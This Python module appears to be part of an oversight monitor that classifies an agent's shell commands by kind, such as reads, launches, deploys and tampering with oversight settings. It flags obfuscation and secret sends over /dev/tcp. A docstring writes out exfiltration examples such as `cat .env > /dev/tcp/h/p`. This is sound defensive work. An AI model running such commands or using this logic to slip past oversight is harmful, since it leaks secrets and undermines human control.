"""Shell text or an argv list → one classification, by walking each command it runs.

The dispatcher here unwraps nothing itself: it looks the program up in the rule tables
(`wrappers`, `launchers`, `publishing`, `guards`, `files`), applies the project's configured
commands, and demotes `--help`/`--dry-run` runs. Redirections, prefix assignments and
declarations are handled per command; a script's result is the most consequential command.
"""

from __future__ import annotations

import functools
import posixpath
from collections.abc import Callable, Iterable
from fnmatch import fnmatchcase

from oversight.classify import (
    aci,
    destructive,
    files,
    guards,
    launchers,
    network_sends,
    publishing,
    readers,
    schedulers,
    wrappers,
)
from oversight.classify.argv import Argv, is_computed, is_dynamic, program_name, word_set
from oversight.classify.caching import text_cache
from oversight.classify.config import ClassifierConfig
from oversight.classify.paths import PathRules
from oversight.classify.result import Classification, combine, merge_targets, tamper
from oversight.classify.shell import SimpleCommand, parse_script, printed
from oversight.classify.toolkit import Chain, Rule, Run
from oversight.classify.words import purpose, split_words
from oversight.classify.wrappers import (
    SCRIPT_SUFFIXES,
    hidden_source,
    run_file,
    shell_exec,
)
from oversight.kinds import Kind

MAX_NESTING = 8
MAX_WRAPPERS = 32
LAUNCH_LIKE = frozenset(
    {Kind.EXPERIMENT_RUN, Kind.EVAL_RUN, Kind.TRAIN_LAUNCH, Kind.CODE_APPLY, Kind.DEPLOY}
)
DRY_RUN = frozenset({"--dry-run", "--dryrun", "--test-only", "--what-if"})
DECLARATIONS = frozenset({"export", "declare", "typeset", "readonly", "local", "unset"})
ENV_FILES = word_set(
    """
    .bashrc .bash_profile .bash_login .profile .zshrc .zprofile .zshenv .env .envrc environment
    """
)
_WHY = {
    Kind.TRAIN_LAUNCH: "training script",
    Kind.EVAL_RUN: "evaluation script",
    Kind.DEPLOY: "deployment script",
}


class CommandRules:
    """Classifies shell scripts and argv lists; the `Toolkit` the program rules call back into."""

    def __init__(
        self,
        config: ClassifierConfig,
        paths: PathRules,
        env_prefixes: Iterable[str],
        python: Callable[[str], Classification],
    ) -> None:
        self.paths = paths
        self._env_prefixes = tuple(env_prefixes)
        self._python = python
        self._commands = dict(config.commands)
        self._scripts = tuple(config.script_patterns.items())
        self._rules: dict[str, Rule] = {
            **files.RULES,
            **guards.RULES,
            **publishing.RULES,
            **launchers.RULES,
            **wrappers.WRAPPERS,
            **schedulers.SCHEDULERS,
            "echo": aci.harness_echo,
        }
        for name in config.wrappers:
            self._rules[name] = wrappers.skipping(frozenset())
        self.analyse_script = text_cache(4096)(self._analyse_script)
        self.analyse_argv = functools.lru_cache(maxsize=4096)(self._analyse_argv)
        # For commands inside Python code: its other statements are not all classified, so a
        # read-only command there does not make the code observation.
        self.exec_script = text_cache(4096)(self._exec_script)
        self.exec_argv = functools.lru_cache(maxsize=4096)(self._exec_argv)
        self._script_kind = functools.lru_cache(maxsize=4096)(self._script_kind_uncached)

    def _analyse_script(self, text: str) -> Classification:
        parsed = parse_script(text)
        found = self.exec_script(text)
        if parsed.error is not None or self._configures_any(parsed.commands):
            return found
        return observation(found, parsed.commands, text)

    def _analyse_argv(self, argv: Argv) -> Classification:
        command = (SimpleCommand(argv),)
        found = self.exec_argv(argv)
        return found if self._configures_any(command) else observation(found, command)

    def _configures_any(self, commands: Iterable[SimpleCommand]) -> bool:
        """A project that names a command in `commands` decides its kind, reader or not."""
        if not self._commands:
            return False
        return any(
            key in self._commands
            for c in commands
            if c.argv
            for key in _config_keys(program_name(c.argv[0]), c.argv)
        )

    def _exec_script(self, text: str) -> Classification:
        return self._script(text, 0)

    def _exec_argv(self, argv: Argv) -> Classification:
        return self._command(SimpleCommand(argv), (), Chain(), 0)

    # Toolkit

    def argv(self, argv: Argv, run: Run) -> Classification:
        if not argv:
            return shell_exec("empty command")
        if run.depth > MAX_NESTING or len(run.via) > MAX_WRAPPERS:
            return shell_exec(
                "commands wrapped or nested too deeply to analyse", "unresolved", "obfuscated"
            )
        first = argv[0]
        if is_computed(first):
            return shell_exec(
                f"runs a program whose name is computed at run time (`{first}`)",
                "obfuscated",
                targets=(first,),
            )
        if is_dynamic(first):
            return shell_exec(
                f"runs a program named by the unresolved `{first}`", "unresolved", targets=(first,)
            )
        name = program_name(first)
        rule = self._rules.get(name)
        if rule is not None:
            result = rule(self, argv, run)
        elif first.lower().endswith(SCRIPT_SUFFIXES) or (
            "/" in first and not first.startswith("/")
        ):
            result = run_file(self, first, run)
        else:
            result = shell_exec(f"runs `{name}`", targets=(name,))
        return self._configured(name, argv, _demoted(name, argv, result))

    def script(self, text: str, run: Run) -> Classification:
        if run.depth >= MAX_NESTING:
            return shell_exec("scripts nested too deeply to analyse", "unresolved", "obfuscated")
        return self._script(text, run.depth + 1)

    def python(self, code: str) -> Classification:
        return self._python(code)

    def writes(self, paths: Iterable[str], verb: str, run: Run) -> Classification | None:
        cwd = run.chain.cwd
        if cwd is None:
            return self.paths.writes(tuple(paths), verb)
        return self.paths.writes(tuple(_within(cwd, p) for p in paths), verb)

    def script_kind(self, path: str) -> tuple[Kind, str]:
        return self._script_kind(path)

    def env_tampers(self, name: str) -> bool:
        return name.startswith(self._env_prefixes)

    # scripts and commands

    def _script(self, text: str, depth: int) -> Classification:
        parsed = parse_script(text)
        chain = Chain()
        stages: dict[int, list[SimpleCommand]] = {}
        parts: list[Classification] = []
        for command in parsed.commands:
            upstream: tuple[SimpleCommand, ...] = ()
            if command.pipeline >= 0:
                earlier = stages.setdefault(command.pipeline, [])
                upstream = tuple(earlier)
                earlier.append(command)
            parts.append(self._command(command, upstream, chain, depth))
        if not parts:
            if parsed.error:
                return shell_exec(f"{parsed.error}; no command could be read", "unresolved")
            return shell_exec("empty command")
        result = combine(parts, "command")
        if parsed.error:
            return Classification(
                result.kind,
                f"{result.reason}; {parsed.error}, so commands may be missed",
                result.flags | {"unresolved"},
                result.targets,
            )
        return result

    def _command(
        self, command: SimpleCommand, upstream: tuple[SimpleCommand, ...], chain: Chain, depth: int
    ) -> Classification:
        run = Run(command, upstream, chain, depth)
        parts: list[Classification] = []
        for name, _ in command.assignments:
            if self.env_tampers(name):
                parts.append(tamper(f"sets {name}, one of oversight's settings", [name]))
        if command.builtin in DECLARATIONS:
            parts.append(self._declaration(command))
        elif command.argv:
            if command.argv[0] in ("cd", "pushd") and not command.nested:
                chain.cwd = _changed_directory(chain.cwd, command.argv[1:])
            found = self.argv(command.argv, run)
            if command.escaped and program_name(command.argv[0]) not in ("echo", "printf"):
                run.flags.add("obfuscated")
                found = found.with_reason(f"{found.reason}; its words are hex-escaped ($'\\x..')")
            if run.via:
                via = ", ".join(f"`{v}`" for v in run.via[:4]) + (
                    ", ..." if len(run.via) > 4 else ""
                )
                found = found.with_reason(f"{found.reason} (via {via})")
            parts.append(found.with_flags(*run.flags) if run.flags else found)
            parts.extend(run.side)
        elif command.builtin == "assign" and not parts:
            parts.append(shell_exec("sets shell variables"))
        sent = _socket_send(command, run)
        if sent is not None:
            parts.append(sent)
        written = [r.target for r in command.redirects if r.writes]
        found_write = self.writes(written, "redirects output into", run)
        if found_write is not None and command.argv[:1] in ((), (":",), ("true",)):
            emptied = [r.target for r in command.redirects if r.operator in (">", ">|")]
            found_write = destructive.with_data_loss(found_write, emptied)
        if found_write is not None:
            parts.append(found_write)
            if any(hidden_source(c) for c in (*upstream, command)):
                chain.generated.update(written)
            if self._persists_oversight_setting(command, written):
                parts.append(tamper(f"writes an oversight setting into `{written[0]}`", written))
        if not parts:
            parts.append(shell_exec("runs nothing visible"))
        result = combine(parts)
        return result.with_flags("background") if command.background else result

    def _declaration(self, command: SimpleCommand) -> Classification:
        names = [name for name, _ in command.assignments]
        names += [w.split("=", 1)[0] for w in command.argv[1:] if not w.startswith(("-", "+"))]
        for name in names:
            if self.env_tampers(name):
                return tamper(
                    f"`{command.builtin}` changes {name}, one of oversight's settings", [name]
                )
        verb = "unsets" if command.builtin == "unset" else "sets"
        return shell_exec(f"`{command.builtin}` {verb} shell variables")

    def _persists_oversight_setting(self, command: SimpleCommand, written: list[str]) -> bool:
        if not any(p.rsplit("/", 1)[-1] in ENV_FILES or p.endswith(".env") for p in written):
            return False
        text = " ".join((*command.argv, command.stdin or ""))
        return any(prefix in text for prefix in self._env_prefixes)

    def _configured(self, name: str, argv: Argv, result: Classification) -> Classification:
        """Project `commands` override built-in kinds, except that tampering is kept."""
        if not self._commands or result.kind is Kind.OVERSIGHT_TAMPER:
            return result
        for key in _config_keys(name, argv):
            kind = self._commands.get(key)
            if kind is not None:
                return Classification(
                    kind,
                    f"config: command `{key}` is {kind.value}",
                    result.flags,
                    merge_targets([(name,), result.targets]),
                )
        return result

    def _script_kind_uncached(self, path: str) -> tuple[Kind, str]:
        base = path.rstrip("/").rsplit("/", 1)[-1]
        for pattern, kind in self._scripts:
            if fnmatchcase(base, pattern) or fnmatchcase(path, pattern):
                return kind, f"`{path}` (config pattern `{pattern}`)"
        stem = base.split(".", 1)[0] if not base.startswith(".") else base
        words = split_words(stem)
        if "test" in words or "tests" in words:
            # `train_utils_test.py`, `test_deploy.py`: a test of the named code, not the thing
            # itself (the session's copy of the script, when known, can still raise this).
            return Kind.EXPERIMENT_RUN, f"test script `{path}`"
        found = purpose(words)
        if found is None and "/" in path:
            found = purpose(split_words(path.rsplit("/", 1)[0]))
        if found is not None:
            kind, word = found
            return kind, f"{_WHY[kind]} `{path}` (word `{word}`)"
        return Kind.EXPERIMENT_RUN, f"project script `{path}`"


def observation(
    found: Classification, commands: tuple[SimpleCommand, ...], text: str = ""
) -> Classification:
    """A plain shell command whose every part only reads is observation: `file.read`.

    Only a plain `shell.exec` with no flag is demoted: whatever the rules found weightier (a
    write, tampering, a launch, a network or background flag) stands.
    """
    if found.kind is not Kind.SHELL_EXEC or found.flags or not readers.reads_only(commands, text):
        return found
    programs = dict.fromkeys(_program_label(c.argv) for c in commands)
    named = ", ".join(f"`{p}`" for p in list(programs)[:4]) + (", ..." if len(programs) > 4 else "")
    return Classification(
        Kind.FILE_READ, f"only reads ({named}): observation, not action", found.flags, found.targets
    )


def _socket_send(command: SimpleCommand, run: Run) -> Classification | None:
    """Bash's `/dev/tcp/host/port`: `cat .env > /dev/tcp/h/p`, or `exec 3<>/dev/tcp/h/p` and
    later `printf 'PUT /x HTTP/1.0' >&3`: what the command writes into the socket."""
    hosts: list[str] = []
    for redirect in command.redirects:
        target = redirect.target
        if target.startswith(("/dev/tcp/", "/dev/udp/")):
            host = target.split("/")[3] if target.count("/") >= 3 else ""
            if command.argv[:1] == ("exec",):
                run.chain.sockets["fd"] = host  # the descriptor number is not always parsed
                continue
            hosts.append(host)
        elif redirect.operator == ">&" and target.isdigit() and "fd" in run.chain.sockets:
            hosts.append(run.chain.sockets["fd"])
    if not hosts or not command.argv:
        return None
    sent = network_sends.sensitive_in(command.argv[1:])
    text = printed(command.argv) if program_name(command.argv[0]) in ("echo", "printf") else ""
    return network_sends.raw_request("bash's `/dev/tcp`", hosts[0], text, sent)


def _config_keys(name: str, argv: Argv) -> list[str]:
    """`commands` keys that may name this command, most specific first: `git remote add`..."""
    words = [w for w in argv[1:] if not w.startswith("-")][:2]
    return [" ".join([name, *words[:n]]) for n in range(len(words), -1, -1)]


def _program_label(argv: Argv) -> str:
    name = program_name(argv[0])
    if name in ("bash", "sh", "zsh", "dash") and len(argv) > 2:
        inner = argv[2].split(None, 1)
        return f"{name} -c '{inner[0] if inner else ''} ...'"
    return f"{name} {argv[1]}" if name in ("git", "pip") and len(argv) > 1 else name


def _changed_directory(cwd: str | None, args: Argv) -> str | None:
    """The directory after `cd args`, or None when it cannot be known (`cd`, `cd -`, `$X`)."""
    words = [a for a in args if not a.startswith("-")]
    if len(words) != 1 or is_dynamic(words[0]) or words[0].startswith("~"):
        return None
    return _within(cwd, words[0]) if cwd else words[0]


def _within(cwd: str, path: str) -> str:
    if not path or path.startswith(("/", "~", "$")):
        return path
    return posixpath.normpath(posixpath.join(cwd, path))


def _no_exec(name: str, args: Argv) -> bool:
    """`make -n` prints the recipes; `bash -n script` only parses it: neither runs anything."""
    if name in ("make", "gmake"):
        if any(a in ("--dry-run", "--just-print", "--recon") for a in args):
            return True
        return any(
            a.startswith("-") and not a.startswith("--") and "n" in a[1:] and a[1] not in "CfIjoW"
            for a in args
        )
    if name in ("bash", "sh", "dash", "zsh", "ksh"):
        for arg in args:
            if not arg.startswith("-") or arg in ("-c", "--"):
                return False
            if not arg.startswith("--") and "n" in arg[1:]:
                return True
    return False


def _demoted(name: str, argv: Argv, result: Classification) -> Classification:
    """`--help`, `--version` and dry runs run nothing, whatever the command would launch."""
    if result.kind not in LAUNCH_LIKE and result.kind is not Kind.FILE_WRITE:
        return result
    args = argv[1:]
    if _no_exec(name, args):
        return shell_exec(f"`{name}` only prints or checks what it would run", targets=(name,))
    helping = "--help" in args or "--usage" in args or (args and args[-1] == "--version")
    if result.kind in LAUNCH_LIKE:
        helping = helping or "-h" in args
    if helping:
        return shell_exec(
            f"`{name}` is asked for help or its version; it runs nothing", targets=(name,)
        )
    if result.kind in LAUNCH_LIKE and any(a in DRY_RUN or a.startswith("--dry-run=") for a in args):
        return shell_exec(
            f"`{name}` runs as a dry run", *(result.flags & {"network"}), targets=(name,)
        )
    return result
